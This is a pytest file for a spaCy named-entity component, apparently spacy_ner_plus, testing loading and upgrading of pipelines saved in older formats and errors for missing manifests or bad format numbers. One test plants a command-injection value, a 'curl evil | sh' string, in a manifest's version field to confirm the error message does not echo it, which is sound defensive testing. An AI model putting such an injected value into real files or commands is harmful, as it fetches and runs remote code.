"""Loading what other versions of this package saved.

`format_1` was written by the code of 0.1.0: a pipeline, the component's bytes, and the entities
that it found.
"""

import json
import logging
import shutil
from pathlib import Path
from typing import Any

import pytest
import spacy
import srsly
from spacy.language import Language

from spacy_ner_plus.models.storage.manifest import make_manifest
from tests.pipeline.samples import (
    assert_same_weights,
    initialized_nlp,
    make_nlp,
    weights,
)
from tests.pipeline.tampering import change_json, copy_of, reseal, to_format_2

FORMAT_1 = Path(__file__).parent / "format_1"


@pytest.fixture(scope="module")
def saved_dir(encoder_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("saved")
    initialized_nlp(encoder_dir).to_disk(folder)
    return folder


@pytest.fixture
def component(saved_dir: Path, tmp_path: Path) -> Path:
    """The component's folder in a copy of a saved pipeline."""
    return copy_of(saved_dir, tmp_path / "copy")


def assert_finds_what_0_1_0_found(nlp: Language) -> None:
    for text, entities in json.loads((FORMAT_1 / "expected.json").read_text(encoding="utf8")):
        found = [[e.start_char, e.end_char, e.label_, e._.probability] for e in nlp(text).ents]
        assert [ent[:3] for ent in found] == [ent[:3] for ent in entities]
        assert [ent[3] for ent in found] == pytest.approx([ent[3] for ent in entities], abs=1e-5)


def test_format_1_finds_what_it_found_then(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.INFO, logger="spacy_ner_plus"):
        nlp = spacy.load(FORMAT_1)
    assert [record.getMessage() for record in caplog.records] == [
        "The saved pipeline has format 1, that of this version is 3: it was read as it is. "
        "Save it again to have it checked on loading."
    ]
    assert_finds_what_0_1_0_found(nlp)


def test_format_1_saved_again_is_of_this_format(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    spacy.load(FORMAT_1).to_disk(tmp_path / "again")
    component = tmp_path / "again" / "ner_plus"
    for file in ("cfg", "manifest.json", "model/tagger.json"):
        assert json.loads((component / file).read_text())["format"] == 3
    caplog.clear()
    with caplog.at_level(logging.INFO, logger="spacy_ner_plus"):
        nlp = spacy.load(tmp_path / "again")
    assert not caplog.records
    assert_finds_what_0_1_0_found(nlp)


def test_bytes_of_format_1(encoder_dir: Path) -> None:
    nlp = make_nlp(encoder_dir, model_window=48, model_overlap=8)
    ner = nlp.get_pipe("ner_plus")
    ner.from_bytes((FORMAT_1 / "component.msgpack").read_bytes())
    expected = spacy.load(FORMAT_1).get_pipe("ner_plus")
    assert ner.labels == expected.labels == ("Chemical", "Disease")
    assert_same_weights(weights(ner), weights(expected))


@pytest.mark.parametrize("missing", ["tagger.json", "tokenizer.json", "weights.safetensors"])
def test_format_1_with_a_file_missing(tmp_path: Path, missing: str) -> None:
    shutil.copytree(FORMAT_1, tmp_path / "copy")
    (tmp_path / "copy" / "ner_plus" / "model" / missing).unlink()
    with pytest.raises(ValueError, match=f"lacks {missing}"):
        spacy.load(tmp_path / "copy")


# Format 2: labels in cfg too


def test_format_2_becomes_format_3(saved_dir: Path, component: Path, tmp_path: Path) -> None:
    to_format_2(component)
    assert json.loads((component / "cfg").read_text())["labels"] == ["Chemical", "Disease"]
    nlp = spacy.load(component.parent)
    nlp.to_disk(tmp_path / "again")
    for file in ("cfg", "model/tagger.json", "model/weights.safetensors", "manifest.json"):
        again = (tmp_path / "again" / "ner_plus" / file).read_bytes()
        assert again == (saved_dir / "ner_plus" / file).read_bytes()


def test_format_2_without_weights_keeps_its_labels(encoder_dir: Path, tmp_path: Path) -> None:
    nlp = make_nlp(encoder_dir, tag_scheme="BIO")
    nlp.get_pipe("ner_plus").add_label("Gene")
    nlp.to_disk(tmp_path)
    to_format_2(tmp_path / "ner_plus")
    assert not list((tmp_path / "ner_plus" / "model").iterdir())
    ner = spacy.load(tmp_path).get_pipe("ner_plus")
    assert (ner.labels, ner.shim.scheme.name) == (("Gene",), "BIO")
    assert not ner.shim.is_built


def test_bytes_of_format_2(encoder_dir: Path) -> None:
    ner = initialized_nlp(encoder_dir).get_pipe("ner_plus")
    parts = srsly.msgpack_loads(ner.to_bytes(exclude=["vocab"]))
    own = {"format": 2, "tag_scheme": "BILOU", "labels": ["Chemical", "Disease"], "balanced": {}}
    parts["cfg"] = json.dumps(own).encode("utf8")
    files = {f"model/{name}": content for name, content in parts["model"].items()}
    parts["manifest"] = make_manifest({"cfg": parts["cfg"], **files})
    again = make_nlp(encoder_dir).get_pipe("ner_plus").from_bytes(srsly.msgpack_dumps(parts))
    assert again.labels == ner.labels and again.cfg == {"balanced": {}}
    assert_same_weights(weights(again), weights(ner))


# Other formats


@pytest.mark.slow
@pytest.mark.parametrize("file", ["manifest.json", "cfg", "model/tagger.json"])
def test_newer_format_says_what_to_install(component: Path, file: str) -> None:
    change_json(component / file, lambda content: content.update(format=4, saved_by="7.1.0"))
    if file != "manifest.json":
        reseal(component)
    with pytest.raises(ValueError, match=r"has format 4.* reads formats up to 3.*\(pip install"):
        spacy.load(component.parent)


def test_newer_format_names_the_version_that_saved_it(component: Path) -> None:
    path = component / "manifest.json"
    change_json(path, lambda content: content.update(format=4, saved_by="7.1.0"))
    with pytest.raises(ValueError, match=r'pip install "spacy_ner_plus>=7\.1\.0"'):
        spacy.load(component.parent)
    change_json(path, lambda content: content.update(saved_by='1" && curl evil | sh #'))
    with pytest.raises(ValueError, match="pip install --upgrade spacy_ner_plus") as caught:
        spacy.load(component.parent)
    assert "evil" not in str(caught.value)


@pytest.mark.slow
@pytest.mark.parametrize("number", [0, -1, None, "2", 2.0, True, [2]])
def test_format_that_is_no_number(component: Path, number: Any) -> None:
    change_json(component / "model" / "tagger.json", lambda content: content.update(format=number))
    reseal(component)
    with pytest.raises(ValueError, match=r"tagger\.json .* has no format number"):
        spacy.load(component.parent)


@pytest.mark.parametrize("exclude", [[], ["cfg"]])
def test_format_3_needs_its_manifest(
    component: Path, encoder_dir: Path, exclude: list[str]
) -> None:
    (component / "manifest.json").unlink()
    ner = make_nlp(encoder_dir).get_pipe("ner_plus")
    with pytest.raises(ValueError, match=r"lacks manifest\.json"):
        ner.from_disk(component, exclude=["vocab", *exclude])
    assert not ner.shim.is_built and ner.labels == ()


@pytest.mark.parametrize("exclude", [[], ["cfg"]])
def test_bytes_of_format_3_need_their_manifest(encoder_dir: Path, exclude: list[str]) -> None:
    parts = srsly.msgpack_loads(initialized_nlp(encoder_dir).get_pipe("ner_plus").to_bytes())
    del parts["manifest"]
    ner = make_nlp(encoder_dir).get_pipe("ner_plus")
    with pytest.raises(ValueError, match=r"lacks manifest\.json"):
        ner.from_bytes(srsly.msgpack_dumps(parts), exclude=exclude)
    assert not ner.shim.is_built and ner.labels == ()
